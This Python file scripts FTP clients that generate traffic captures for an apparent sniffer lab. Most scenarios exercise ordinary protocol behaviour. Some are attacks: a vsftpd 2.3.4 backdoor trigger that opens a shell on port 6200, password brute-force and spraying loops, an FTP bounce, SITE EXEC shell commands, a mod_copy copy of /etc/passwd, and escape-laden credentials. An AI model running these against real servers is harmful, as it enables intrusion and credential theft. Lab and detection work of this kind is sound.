#!/usr/bin/python3
"""Scripted FTP clients for the ftpsniff capture lab (run with Debian's /usr/bin/python3).

Each sub-command drives one recorded scenario against a lab server; record.sh calls them
inside the client network namespace.  Raw-socket clients are used where ftplib refuses to
produce the bytes we want on the wire (pipelining, split commands, hostile credentials).
Usage: clients.py SCENARIO [args...]   (see the SCENARIOS table at the bottom)
"""
import ftplib
import io
import os
import socket
import ssl
import sys
import time

FILES = os.environ.get("LAB_FILES", "/opt/ftpsniff-lab/files")


class Raw:
    """Minimal line-oriented FTP control connection over a plain socket."""

    def __init__(self, host, port=21, src=None, nodelay=True):
        fam = socket.AF_INET6 if ":" in host else socket.AF_INET
        self.s = socket.socket(fam, socket.SOCK_STREAM)
        if nodelay:
            self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if src:
            self.s.bind((src, 0))
        self.s.connect((host, port))
        self.buf = b""

    def send(self, data: bytes):
        self.s.sendall(data)

    def trickle(self, data: bytes, step=1, pause=0.05):
        """Send one command in several TCP segments."""
        for i in range(0, len(data), step):
            self.s.sendall(data[i:i + step])
            time.sleep(pause)

    def reply(self):
        """Read one complete (possibly multi-line, RFC 959 4.2) reply; return (code, text)."""
        lines = []
        code = None
        while True:
            while b"\n" not in self.buf:
                try:
                    chunk = self.s.recv(4096)
                except ConnectionResetError:
                    chunk = b""
                if not chunk:
                    return (code or "EOF", b"".join(lines))
                self.buf += chunk
            line, self.buf = self.buf.split(b"\n", 1)
            lines.append(line + b"\n")
            if code is None:
                code = line[:3].decode("latin-1")
                if line[3:4] != b"-":
                    break
            elif line[:3].decode("latin-1") == code and line[3:4] == b" ":
                break
        sys.stdout.write("<- " + b"".join(lines).decode("latin-1"))
        return code, b"".join(lines)

    def cmd(self, line: bytes):
        sys.stdout.write("-> %r\n" % line)
        self.send(line + b"\r\n")
        return self.reply()

    def close(self):
        self.s.close()


def pasv_addr(text: bytes):
    inner = text[text.index(b"(") + 1:text.index(b")")].decode()
    p = [int(x) for x in inner.split(",")]
    return ".".join(map(str, p[:4])), p[4] * 256 + p[5]


def pipelined(host, user, password):
    """Several commands in one segment, then commands split across segments."""
    c = Raw(host)
    c.reply()
    c.send(b"USER %s\r\nPASS %s\r\nSYST\r\nPWD\r\nTYPE I\r\n" % (user.encode(), password.encode()))
    for _ in range(5):
        c.reply()
    c.trickle(b"PASV\r\n", step=1, pause=0.05)
    code, text = c.reply()
    h, p = pasv_addr(text)
    d = socket.create_connection((h, p))
    c.trickle(b"RETR hello.txt\r\n", step=4, pause=0.05)
    c.reply()
    data = b""
    while True:
        chunk = d.recv(65536)
        if not chunk:
            break
        data += chunk
    d.close()
    c.reply()
    # Two commands where the second one starts in the same segment as the first's end.
    c.send(b"NOOP\r\nSTAT hel")
    time.sleep(0.1)
    c.send(b"lo.txt\r\n")
    c.reply()
    c.reply()
    c.cmd(b"QUIT")
    c.close()
    print("downloaded", len(data))


def hostile(host):
    """Credentials with ANSI escapes, a bare CR and non-UTF-8 bytes."""
    c = Raw(host)
    c.reply()
    c.cmd(b"USER \x1b[31mroot\x1b[0m")
    c.cmd(b"PASS se\x1b[2Jcret\x1b]0;pwned\x07")
    c.cmd(b"USER adm\rin")
    c.cmd(b"PASS pa\rss")
    c.cmd(b"USER \xff\xfeuser\xc3\x28")
    c.cmd(b"PASS \xff\xfe\x00\x01pw")
    c.cmd(b"QUIT")
    c.close()


def multiline(host, user, password):
    """Multi-line 220 banner, FEAT (211-), HELP (214-), STAT (211-), 230 with motd."""
    f = ftplib.FTP()
    f.set_debuglevel(1)
    f.connect(host, 21)
    f.login(user, password)
    f.sendcmd("FEAT")
    f.sendcmd("HELP")
    f.sendcmd("HELP RETR")
    f.sendcmd("SYST")
    f.sendcmd("STAT")
    f.sendcmd("SITE HELP")
    f.retrlines("LIST")
    f.quit()


def fxp(host_a, host_b, user, password):
    """Server-to-server copy: PASV on A, PORT (A's address) on B, RETR on A, STOR on B."""
    a = ftplib.FTP()
    b = ftplib.FTP()
    for f, h in ((a, host_a), (b, host_b)):
        f.set_debuglevel(1)
        f.connect(h, 21)
        f.login(user, password)
        f.sendcmd("TYPE I")
    resp = a.sendcmd("PASV")
    h, p = ftplib.parse227(resp)
    b.sendcmd("PORT " + ",".join(h.split(".") + [str(p >> 8), str(p & 255)]))
    b.sendcmd("STOR fxp-copy.bin")      # 150: B connects to A
    a.sendcmd("RETR data-64k.bin")      # 150: A sends
    print(a.voidresp())
    print(b.voidresp())
    b.sendcmd("SIZE fxp-copy.bin")
    b.delete("fxp-copy.bin")
    a.quit()
    b.quit()


def abort(host, user, password):
    """ABOR in the middle of a slow RETR, as RFC 959 4.1.3 describes it: Telnet IP, then
    Synch (IAC DM sent as TCP urgent data), then ABOR; the client closes the data socket."""
    f = ftplib.FTP()
    f.set_debuglevel(1)
    f.connect(host, 21)
    f.login(user, password)
    f.sendcmd("TYPE I")
    h, p = ftplib.parse227(f.sendcmd("PASV"))
    d = socket.socket()
    d.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)
    d.connect((h, p))
    f.sendcmd("RETR big-300k.bin")
    got = 0
    while got < 60000:
        chunk = d.recv(4096)
        if not chunk:
            break
        got += len(chunk)
    print("read", got, "then IP, Synch, ABOR")
    f.sock.sendall(b"\xff\xf4\xff")            # IAC IP IAC
    f.sock.send(b"\xf2", socket.MSG_OOB)         # DM as urgent data (the Synch)
    f.sock.sendall(b"ABOR\r\n")
    d.close()
    print(f.getmultiline())
    try:
        print(f.getmultiline())
    except Exception as e:  # noqa: BLE001 - diagnostic only
        print("after abort:", e)
    f.sendcmd("NOOP")
    f.quit()


def concurrent(host, sessions):
    """Several anonymous sessions downloading at the same time; small receive buffers and
    round-robin reads make the data connections interleave on the wire."""
    ctl = []
    for i in range(int(sessions)):
        f = ftplib.FTP()
        f.connect(host, 21)
        f.login()
        f.sendcmd("TYPE I")
        ctl.append(f)
    data = []
    for i, f in enumerate(ctl):
        if i % 2:
            h, p = ftplib.parse227(f.sendcmd("PASV"))
        else:
            p = ftplib.parse229(f.sendcmd("EPSV"), f.sock.getpeername())[1]
            h = host
        d = socket.socket()
        d.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        d.connect((h, p))
        f.sendcmd("RETR pub/" + ("data-64k.bin", "readme.txt", "hello.txt")[i % 3])
        data.append(d)
    open_ = set(range(len(data)))
    sizes = [0] * len(data)
    while open_:
        for i in sorted(open_):
            chunk = data[i].recv(2048)
            if not chunk:
                data[i].close()
                open_.discard(i)
                print("session", i, "got", sizes[i], ctl[i].voidresp())
            sizes[i] += len(chunk)
        time.sleep(0.002)
    for f in ctl:
        f.quit()


def uploads(host, user, password):
    """STOR, APPE and STOU (RFC 959 4.1.3) plus SIZE checks."""
    f = ftplib.FTP()
    f.set_debuglevel(1)
    f.connect(host, 21)
    f.login(user, password)
    before = set(f.nlst())
    with open(os.path.join(FILES, "upload-20k.bin"), "rb") as src:
        f.storbinary("STOR upload-20k.bin", src)
    with open(os.path.join(FILES, "hello.txt"), "rb") as src:
        f.storbinary("STOR combined.txt", src)
    with open(os.path.join(FILES, "append.txt"), "rb") as src:
        f.storbinary("APPE combined.txt", src)
    f.sendcmd("TYPE I")
    print(f.sendcmd("SIZE combined.txt"))
    conn, _ = f.ntransfercmd("STOU")
    with open(os.path.join(FILES, "readme.txt"), "rb") as src:
        conn.sendall(src.read())
    conn.close()
    print(f.voidresp())
    f.retrlines("NLST")
    for name in f.nlst():
        if name not in before:
            f.delete(name)
    f.quit()


def listings(host, user, password):
    """LIST, NLST, MLSD (RFC 3659 7), MLST, plus SIZE/MDTM."""
    f = ftplib.FTP()
    f.set_debuglevel(1)
    f.connect(host, 21)
    f.login(user, password)
    f.retrlines("LIST")
    f.retrlines("LIST -la sub")
    f.retrlines("NLST")
    for name, facts in f.mlsd("", ["type", "size", "modify", "perm"]):
        print(name, facts)
    f.sendcmd("MLST hello.txt")
    f.sendcmd("TYPE I")
    f.sendcmd("SIZE big-300k.bin")
    f.sendcmd("MDTM hello.txt")
    f.quit()


def cwd_paths(host, user, password):
    """Directory navigation and relative paths (RFC 959 4.1.1, 4.1.3)."""
    f = ftplib.FTP()
    f.set_debuglevel(1)
    f.connect(host, 21)
    f.login(user, password)
    f.pwd()
    f.cwd("sub")
    f.pwd()
    f.cwd("dir")
    f.pwd()
    f.retrbinary("RETR nested.txt", lambda b: None)
    f.sendcmd("CDUP")
    f.pwd()
    f.retrbinary("RETR dir/nested.txt", lambda b: None)
    f.retrbinary("RETR ../hello.txt", lambda b: None)
    f.cwd("/")
    f.mkd("work")
    f.cwd("work")
    with open(os.path.join(FILES, "append.txt"), "rb") as src:
        f.storbinary("STOR draft.txt", src)
    f.rename("draft.txt", "final.txt")
    f.retrbinary("RETR /work/final.txt", lambda b: None)
    f.delete("final.txt")
    f.cwd("..")
    f.rmd("work")
    try:
        f.cwd("does-not-exist")
    except ftplib.error_perm as e:
        print("expected:", e)
    f.quit()


def bruteforce(host, src, user, count, per_conn):
    """count wrong passwords for one user, per_conn attempts per control connection."""
    done = 0
    while done < count:
        c = Raw(host, src=src)
        c.reply()
        for _ in range(per_conn):
            if done >= count:
                break
            c.cmd(b"USER " + user.encode())
            code, _ = c.cmd(b"PASS guess%03d" % done)
            done += 1
            if code in ("EOF", "421"):
                break
        try:
            c.cmd(b"QUIT")
        except OSError:
            pass
        c.close()


def login_ok(host, src, user, password):
    f = ftplib.FTP(source_address=(src, 0))
    f.set_debuglevel(1)
    f.connect(host, 21)
    f.login(user, password)
    f.pwd()
    f.retrlines("LIST")
    f.quit()


def spray(host, src, password, *users):
    """One password against many user names on one connection (reconnect when cut)."""
    c = Raw(host, src=src)
    c.reply()
    for u in users:
        for _ in range(2):
            code, _ = c.cmd(b"USER " + u.encode())
            if code != "EOF":
                code, _ = c.cmd(b"PASS " + password.encode())
            if code not in ("EOF", "421"):
                break
            # The server cut us off (MaxLoginAttempts): reconnect and retry this user.
            c.close()
            c = Raw(host, src=src)
            c.reply()
    c.cmd(b"QUIT")
    c.close()


def tls_refused(host, user, password):
    """AUTH TLS/SSL against a server without TLS, then a cleartext login (RFC 4217 4)."""
    c = Raw(host)
    c.reply()
    c.cmd(b"AUTH TLS")
    c.cmd(b"AUTH SSL")
    c.cmd(b"USER " + user.encode())
    c.cmd(b"PASS " + password.encode())
    c.cmd(b"PWD")
    c.cmd(b"QUIT")
    c.close()


def user_before_auth(host, user, password):
    """USER in cleartext BEFORE AUTH TLS, then TLS and a proper login (RFC 4217 4)."""
    c = Raw(host)
    c.reply()
    c.cmd(b"USER " + user.encode())
    c.cmd(b"AUTH TLS")
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    c.s = ctx.wrap_socket(c.s, server_hostname=host)
    c.cmd(b"USER " + user.encode())
    c.cmd(b"PASS " + password.encode())
    c.cmd(b"PBSZ 0")
    c.cmd(b"PROT P")
    c.cmd(b"PWD")
    c.cmd(b"QUIT")
    try:
        c.s.unwrap()
    except (OSError, ssl.SSLError):
        pass
    c.close()


def bounce(host, third, port, user, password):
    """PORT naming a third host (RFC 2577 bounce attack)."""
    c = Raw(host)
    c.reply()
    c.cmd(b"USER " + user.encode())
    c.cmd(b"PASS " + password.encode())
    h = third.replace(".", ",").encode()
    code, _ = c.cmd(b"PORT %s,%d,%d" % (h, int(port) >> 8, int(port) & 255))
    code, _ = c.cmd(b"LIST")
    if code == "150":
        c.reply()
    c.cmd(b"QUIT")
    c.close()


def site(host, user, password):
    """SITE EXEC / SITE CPFR+CPTO (mod_copy) / SITE CHMOD / SITE UTIME."""
    f = ftplib.FTP()
    f.set_debuglevel(1)
    f.connect(host, 21)
    f.login(user, password)
    for cmd in ("SITE EXEC /bin/id", "SITE EXEC /bin/sh -c id", "SITE CPFR hello.txt",
                "SITE CPTO hello-copy.txt", "SITE CHMOD 600 hello-copy.txt",
                "SITE UTIME hello-copy.txt 20240101000000", "SITE HELP", "SITE CPFR /etc/passwd",
                "SITE CPTO passwd-copy", "DELE hello-copy.txt", "DELE passwd-copy"):
        try:
            print(f.sendcmd(cmd))
        except ftplib.Error as e:
            print("error:", e)
    f.quit()


def anon_upload(host):
    f = ftplib.FTP()
    f.set_debuglevel(1)
    f.connect(host, 21)
    f.login()   # anonymous / anonymous@
    f.cwd("incoming")
    with open(os.path.join(FILES, "upload-20k.bin"), "rb") as src:
        f.storbinary("STOR anon-upload.bin", src)
    f.retrlines("LIST")
    f.quit()


def cleartext_after_tls_offer(host, user, password):
    """Plain ftplib.FTP against a server offering TLS: FEAT lists AUTH TLS (RFC 2389 3,
    RFC 4217 6), yet the client logs in in cleartext and lists over PASV."""
    f = ftplib.FTP()
    f.set_debuglevel(1)
    f.connect(host, 21)
    feat = f.sendcmd("FEAT")
    if "AUTH TLS" not in feat.upper():
        sys.exit("server did not advertise AUTH TLS in FEAT:\n" + feat)
    f.login(user, password)
    f.set_pasv(True)
    f.retrlines("LIST")
    f.quit()


def backdoor_trigger(host):
    """The vsftpd 2.3.4 backdoor trigger (CVE-2011-2523) as exploit tools send it: a USER
    ending in ":)", any PASS, then a connection to port 6200 of the server and a command."""
    c = Raw(host)
    c.reply()
    c.cmd(b"USER backdoored:)")
    c.send(b"PASS whatever\r\n")
    sys.stdout.write("-> PASS (no reply expected: the backdoor blocks the session)\n")
    time.sleep(0.5)
    sh = socket.create_connection((host, 6200), timeout=5)
    sh.sendall(b"id\n")
    print("shell:", sh.recv(4096))
    sh.sendall(b"exit\n")
    sh.close()
    c.close()


def connect_attempts(refused_host, silent_host):
    """TCP connection attempts to port 21 that never become FTP: one refused (RST), one
    unanswered (the SYN and its retransmissions, then the client gives up)."""
    for host, timeout in ((refused_host, 2), (silent_host, 3.5)):
        try:
            socket.create_connection((host, 21), timeout=timeout).close()
            print(host, "connected?")
        except OSError as e:
            print(host, "->", e)


def pasv_reuse(host, user, password):
    """Two sessions open at once against a server with ONE passive port: each PASV reply
    names the same port, so one port serves data connections of both sessions in turn."""
    a, b = ftplib.FTP(), ftplib.FTP()
    for f in (a, b):
        f.set_debuglevel(1)
        f.connect(host, 21)
        f.login(user, password)
        f.set_pasv(True)
    a.retrlines("LIST")
    b.retrbinary("RETR hello.txt", lambda d: None)
    a.retrlines("NLST")
    b.retrbinary("RETR readme.txt", lambda d: None)
    a.quit()
    b.quit()


def type_a(host, user, password):
    """SIZE in binary mode, then an ASCII-mode RETR (TYPE A): the server converts LF to
    CRLF (RFC 959 3.1.1.1), so the wire carries more bytes than SIZE announced."""
    f = ftplib.FTP()
    f.set_debuglevel(1)
    f.connect(host, 21)
    f.login(user, password)
    f.voidcmd("TYPE I")
    print("size", f.size("readme.txt"))
    f.retrlines("RETR readme.txt", lambda l: None)  # ftplib sends TYPE A
    f.quit()


def noop_during_retr(host, user, password):
    """A keep-alive NOOP sent on the control connection while a slow RETR is still
    flowing (FileZilla and WinSCP do this); the replies are read after the data."""
    f = ftplib.FTP()
    f.set_debuglevel(1)
    f.connect(host, 21)
    f.login(user, password)
    f.voidcmd("TYPE I")
    conn = f.transfercmd("RETR big-300k.bin")
    got, sent = 0, False
    while True:
        d = conn.recv(8192)
        if not d:
            break
        got += len(d)
        if not sent and got > 100000:
            f.sock.sendall(b"NOOP\r\n")
            sys.stdout.write("-> NOOP (during the transfer, at %d bytes)\n" % got)
            sent = True
    conn.close()
    print("got", got)
    print(f.getmultiline())
    print(f.getmultiline())
    f.quit()


def eprt_v6_on_v4(host, user, password, addr6):
    """A dual-stack client sending EPRT with its own IPv6 address over an IPv4 control
    connection (RFC 2428 2 allows any protocol family); the server refuses it."""
    c = Raw(host)
    c.reply()
    c.cmd(b"USER " + user.encode())
    c.cmd(b"PASS " + password.encode())
    c.cmd(b"EPRT |2|%s|50123|" % addr6.encode())
    c.cmd(b"PASV")
    c.cmd(b"QUIT")
    c.close()


SCENARIOS = {
    "pipelined": pipelined, "hostile": hostile, "multiline": multiline, "fxp": fxp,
    "abort": abort, "concurrent": concurrent, "uploads": uploads, "listings": listings, "cwd": cwd_paths,
    "bruteforce": lambda h, s, u, n, p: bruteforce(h, s, u, int(n), int(p)),
    "login": login_ok, "spray": spray, "tls-refused": tls_refused,
    "user-before-auth": user_before_auth, "bounce": bounce, "site": site,
    "anon-upload": anon_upload, "cleartext-after-tls-offer": cleartext_after_tls_offer,
    "backdoor-trigger": backdoor_trigger, "connect-attempts": connect_attempts,
    "pasv-reuse": pasv_reuse, "type-a": type_a, "noop-during-retr": noop_during_retr,
    "eprt-v6-on-v4": eprt_v6_on_v4,
}

if __name__ == "__main__":
    SCENARIOS[sys.argv[1]](*sys.argv[2:])
